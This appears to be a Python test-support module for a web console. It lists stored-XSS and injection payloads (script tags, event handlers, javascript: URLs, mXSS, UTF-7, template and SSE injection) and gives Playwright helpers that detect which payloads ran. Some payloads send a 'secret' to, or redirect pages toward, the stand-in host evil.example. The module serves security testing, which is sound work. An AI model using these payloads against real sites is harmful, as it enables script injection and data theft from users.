"""What others may have stored to steer a page, and what tells that it did. Knows no page."""

from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from playwright.sync_api import Page

RUN = "window.ran=1"
_WRITTEN = (
    f"<script>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</pre></td></tr></table><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    "![tracker](http://evil.example/pixel.png?q=secret)",
    "<img src=http://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f'<a href="javascript:{RUN}" autofocus>click</a>',
    f"javascript:{RUN}",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus={RUN} x='",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><button autofocus>go</button></form>",
    '<div hx-get="/console/login" hx-trigger="load" hx-target="body">x</div>',
    f"<div hx-on::load='{RUN}' hx-vals='js:{RUN}' data-hx-get=/console hx-trigger=load>x</div>",
    '<b hx-sse:connect="http://evil.example/sse" hx-nonce="guess">x</b>',
    f"<template><script>{RUN}</script></template><hx-partial hx-target=body>x</hx-partial>",
    "{{ 7 * 7 }}{% for x in frame %}{{ x }}{% endfor %}${7*7}",
    f"a\n\nevent: x\ndata: <script>{RUN}</script>\n\n",
    f"\u202e<script>{RUN}</script>\u2066\u0000\x1b[2J",
    f"<scr\u0000ipt>{RUN}</scr\u0000ipt>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
PAYLOADS = tuple(text.replace(RUN, RUN.replace("ran", f"ran{n}")) for n, text in enumerate(_WRITTEN))
"""Each that runs sets a variable with its own number."""

_ENDS = "--></script></style></mglyph></table></mtext></math></svg></video></details></template></textarea></title>"
SOUP = _ENDS.join(("", *sorted(PAYLOADS, key=lambda text: "\n" in text), ""))
"""All of them, for a field of which a page shows one: each begins in text, whatever the one before it opened."""

PLAIN = "plain words\nand/or more of them"
"""What is said where nobody means harm."""


def ran(page: "Page") -> list[str]:
    """The marks of the payloads that ran on a page."""
    found: list[str] = page.evaluate("Object.keys(window).filter(name => /^ran\\d*$/.test(name))")
    return found


class Read(NamedTuple):
    """A page as a browser reads it: what it is made of, and its blocks of text."""

    made_of: frozenset[str]
    texts: list[str]


class Parser:
    """A browser's parser: it runs nothing and asks for nothing, and so takes a page in milliseconds."""

    def __init__(self, blank: "Page") -> None:
        self._blank = blank

    def read(self, html: str) -> Read:
        """What the elements of a page are called, with their attributes; addresses that lead away; inline scripts."""
        made_of, texts = self._blank.evaluate(_READ, html)
        return Read(frozenset(made_of), texts)


_READ = r"""html => {
    const page = new DOMParser().parseFromString(html, "text/html");
    const found = [];
    for (const one of page.querySelectorAll("*")) {
        found.push([one.localName, ...one.getAttributeNames().sort()].join(" "));
        for (const at of one.attributes)
            if (/^(href|xlink:href|src|data|action|formaction|hx-(get|post))$/.test(at.name)
                && !/^(\/console([\/?#]|$)|[?#])/.test(at.value)) found.push(`${at.name}=${at.value}`);
        if (one.localName === "script" && one.textContent) found.push(`script: ${one.textContent}`);
    }
    return [[...new Set(found)], [...page.querySelectorAll("pre.text")].map(one => one.textContent)];
}"""
